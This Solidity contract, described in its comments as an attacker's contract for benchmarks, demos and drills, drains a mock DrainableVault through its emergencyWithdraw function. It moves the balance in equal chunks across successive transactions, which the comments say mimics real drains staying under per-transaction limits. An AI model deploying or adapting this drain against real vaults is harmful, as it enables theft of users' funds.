// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IDrainableVault {
    function token() external view returns (address);
    function emergencyWithdraw(address to, uint256 amount) external;
}

interface IERC20Balance {
    function balanceOf(address account) external view returns (uint256);
}

/// @title VaultDrainer
/// @notice The attacker's contract against DrainableVault: each `drain()` takes one
///         `parts`-th of the balance the vault held at the first call, so the whole drain
///         takes `parts` transactions in successive blocks, as real drains often do to stay
///         under per-transaction limits. For benchmarks, demos and drills.
contract VaultDrainer {
    IDrainableVault public immutable vault;
    address public immutable owner;
    uint256 public immutable parts;
    uint256 public chunk;

    constructor(IDrainableVault target, uint256 partCount) {
        require(partCount > 0, "parts");
        vault = target;
        owner = msg.sender;
        parts = partCount;
    }

    /// @notice Moves the next chunk to the owner; reverts once the vault is paused.
    function drain() external returns (uint256 amount) {
        require(msg.sender == owner, "not owner");
        uint256 left = IERC20Balance(vault.token()).balanceOf(address(vault));
        if (chunk == 0) {
            chunk = left / parts;
        }
        amount = chunk < left ? chunk : left;
        require(amount > 0, "empty");
        vault.emergencyWithdraw(owner, amount);
    }

    /// @notice Forget the chunk, so the next drain sizes it from the vault's balance again.
    function reset() external {
        require(msg.sender == owner, "not owner");
        chunk = 0;
    }
}
